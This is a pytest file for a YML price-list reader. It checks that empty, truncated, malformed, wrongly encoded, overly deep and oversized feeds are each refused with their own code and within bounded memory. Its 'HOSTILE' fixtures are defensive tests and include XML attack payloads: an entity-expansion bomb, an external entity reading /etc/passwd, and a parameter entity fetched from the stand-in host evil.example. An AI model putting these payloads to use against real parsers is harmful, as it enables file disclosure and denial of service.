"""Files that are refused whole, each with its own code, and none of them at a price in memory."""

from __future__ import annotations

import io
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path

import pytest

from domain.feeds.ports import PriceListRefused, RefusalCode
from integrations.yml import decoding, reader
from integrations.yml.reader import open_yml
from tests.integrations.yml.price_lists import TEA, offer, price_list, take

RUSSIAN = price_list(offer("<name>Чай зелёный китайский байховый</name><price>5</price>"))


def refusal(data: bytes) -> PriceListRefused:
    with pytest.raises(PriceListRefused) as refused:
        take(data)
    return refused.value


def labelled(label: str, text: str = RUSSIAN) -> str:
    return text.replace("UTF-8", label)


HOSTILE = {
    "nothing": (b"", RefusalCode.EMPTY),
    "blanks": (b" \n\t ", RefusalCode.EMPTY),
    "a mark alone": (b"\xef\xbb\xbf", RefusalCode.EMPTY),
    "words": ("код;цена\n1;100".encode(), RefusalCode.NOT_XML),
    "an archive": (b"PK\x03\x04" + bytes(200), RefusalCode.NOT_XML),
    "a page": (b"<!DOCTYPE html><html><body>404</body></html>", RefusalCode.NOT_A_PRICE_LIST),
    "a bare page": (b"<html><body>404</body></html>", RefusalCode.NOT_A_PRICE_LIST),
    "another format": (b"<price><items><item/></items></price>", RefusalCode.NOT_A_PRICE_LIST),
    "a declaration alone": (b'<?xml version="1.0"?>\n', RefusalCode.TRUNCATED),
    "half a root": (b"<yml_cat", RefusalCode.TRUNCATED),
    "no end": (b"<yml_catalog><shop>", RefusalCode.TRUNCATED),
    "cut in a tag": (RUSSIAN.encode().partition(b"ice>")[0], RefusalCode.TRUNCATED),
    "a bare ampersand": (price_list(offer(TEA + "<x>a & b</x>")).encode(), RefusalCode.BROKEN_XML),
    "tags crossed": (b"<yml_catalog><shop></yml_catalog></shop>", RefusalCode.BROKEN_XML),
    "two roots": (RUSSIAN.encode() + b"<more/>", RefusalCode.BROKEN_XML),
    "a control letter": (price_list(offer("<name>\x01</name>")).encode(), RefusalCode.BROKEN_XML),
    "an unknown entity": (
        price_list(offer("<name>&boss;</name>")).encode(),
        RefusalCode.BROKEN_XML,
    ),
    "no rows": (b"<yml_catalog><shop/></yml_catalog>", RefusalCode.NO_OFFERS),
    "no offers": (price_list("").encode(), RefusalCode.NO_OFFERS),
    "an unknown encoding": (labelled("x-mac").encode(), RefusalCode.UNKNOWN_ENCODING),
    "windows-1251 called UTF-8": (RUSSIAN.encode("cp1251"), RefusalCode.WRONG_ENCODING),
    "UTF-8 called windows-1251": (labelled("windows-1251").encode(), RefusalCode.WRONG_ENCODING),
    "UTF-8 called UTF-16": (labelled("utf-16").encode(), RefusalCode.WRONG_ENCODING),
    "mojibake as UTF-8": (
        RUSSIAN.encode().decode("cp1251", "ignore").encode(),
        RefusalCode.WRONG_ENCODING,
    ),
    "256 levels": (
        price_list(offer(TEA + "<x>" * 300 + "</x>" * 300)).encode(),
        RefusalCode.TOO_DEEP,
    ),
    "a bomb": (
        b'<!DOCTYPE yml_catalog [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;">]>' + RUSSIAN.encode(),
        RefusalCode.ENTITY_DECLARED,
    ),
    "a file wanted": (
        b'<!DOCTYPE yml_catalog [<!ENTITY a SYSTEM "file:///etc/passwd">]>' + RUSSIAN.encode(),
        RefusalCode.EXTERNAL_ENTITY,
    ),
    "an address wanted": (
        b'<!DOCTYPE yml_catalog [<!ENTITY % a SYSTEM "http://evil.example/a"> %a;]>'
        + RUSSIAN.encode(),
        RefusalCode.EXTERNAL_ENTITY,
    ),
    "a bomb in UTF-16": (
        '<!DOCTYPE yml_catalog [<!ENTITY a "ha">]><yml_catalog>&a;</yml_catalog>'.encode("utf-16"),
        RefusalCode.ENTITY_DECLARED,
    ),
}


@pytest.mark.parametrize(("data", "code"), HOSTILE.values(), ids=HOSTILE.keys())
def test_file_is_refused_with_its_code(data: bytes, code: RefusalCode) -> None:
    assert refusal(data).code == code


def test_refusal_names_the_line() -> None:
    broken = price_list("\n\n" + offer("<name>a</b>")).encode()
    assert refusal(broken).line == 5


@pytest.mark.parametrize("cut", [30, 120, 5_000, 70_000, 140_000, -1, -20])
def test_beginning_of_a_truncated_file_is_never_taken_for_all_of_it(cut: int) -> None:
    rows = "\n".join(offer(attributes=f'id="{number}"') for number in range(1_500))
    assert refusal(price_list(rows).encode()[:cut]).code == RefusalCode.TRUNCATED


def test_mojibake_deep_in_the_file_is_refused_with_its_line() -> None:
    good = offer() * 2_000  # beyond what is judged at first
    broken = offer("<name>Чай китайский</name><price>1</price>").encode().decode("cp1251")
    refused = refusal(price_list(good + "\n" + broken).encode())
    assert (refused.code, refused.line) == (RefusalCode.WRONG_ENCODING, 4)


class Endless(io.RawIOBase):
    """A head, and then the same bytes again up to a gigabyte; none of them kept."""

    def __init__(self, head: bytes, again: bytes) -> None:
        self._pieces = self._read_out(head, again)
        self.handed_out = 0

    def read(self, size: int = -1, /) -> bytes:
        piece = next(self._pieces, b"")
        self.handed_out += len(piece)
        return piece

    def _read_out(self, head: bytes, again: bytes) -> Iterator[bytes]:
        yield head
        block = again * (60_000 // len(again))
        for _ in range(1_000_000_000 // len(block)):
            yield block


def kilobytes(field: str) -> int:
    status = Path("/proc/self/status").read_text().splitlines()
    return int(next(line.split()[1] for line in status if line.startswith(field)))


@contextmanager
def growth_below(limit_kilobytes: int) -> Iterator[None]:
    """Fails when, at its highest inside the block, this process was bigger by more than that."""
    if not Path("/proc/self/clear_refs").exists():
        yield
        return
    Path("/proc/self/clear_refs").write_text("5")  # the high-water mark begins anew
    before = kilobytes("VmRSS")
    yield
    assert kilobytes("VmHWM") - before < limit_kilobytes


GIGABYTES = {
    "address": (f"<offers><offer id='a'>{TEA}<picture>http://a.example/", "x"),
    "attribute": ("<offers><offer id='", "x"),
    "children": ("<offers><offer id='a'>", "<param/>"),
    "strange rows": ("<offers>", "<row/>"),
    "strange section": ("<news>", "<n>text</n>"),
    "comment": ("<offers><!--", "x"),
    "blanks": ("<offers>", " "),
}


@pytest.mark.parametrize(("start", "again"), GIGABYTES.values(), ids=GIGABYTES.keys())
def test_gigabyte_in_one_row_is_refused_within_bounded_memory(start: str, again: str) -> None:
    file = Endless(f"<yml_catalog><shop>{start}".encode(), again.encode())
    with (
        growth_below(120_000),
        pytest.raises(PriceListRefused) as refused,
        open_yml(file) as reading,  # type: ignore[arg-type]
    ):
        list(reading.records())
    assert refused.value.code == RefusalCode.ROW_TOO_LARGE
    assert file.handed_out < 2 * reader.MAX_ROW_BYTES


def test_strange_sections_between_the_offers_are_forgotten() -> None:
    """Each is below the bound of one row, all of them together are far above it."""
    sections = ("<news>" + "<n/>" * 100_000 + "</news><offers>" + offer() + "</offers>") * 20
    data = f"<yml_catalog><shop>{sections}</shop></yml_catalog>".encode()
    with growth_below(60_000):
        assert len(take(data).offers) == 20


def test_bounds_on_size_and_number(monkeypatch: pytest.MonkeyPatch) -> None:
    many = price_list("".join(offer(attributes=f'id="{n}"') for n in range(11))).encode()
    with monkeypatch.context() as bounds:
        bounds.setattr(reader, "MAX_OFFERS", 10)
        assert refusal(many).code == RefusalCode.TOO_MANY_OFFERS
    with monkeypatch.context() as bounds:
        bounds.setattr(decoding, "MAX_FILE_BYTES", 1_000)
        assert refusal(many).code == RefusalCode.TOO_LARGE
    with monkeypatch.context() as bounds:
        bounds.setattr("integrations.yml.categories.MAX_CATEGORIES", 1)
        assert refusal(many).code == RefusalCode.TOO_MANY_CATEGORIES
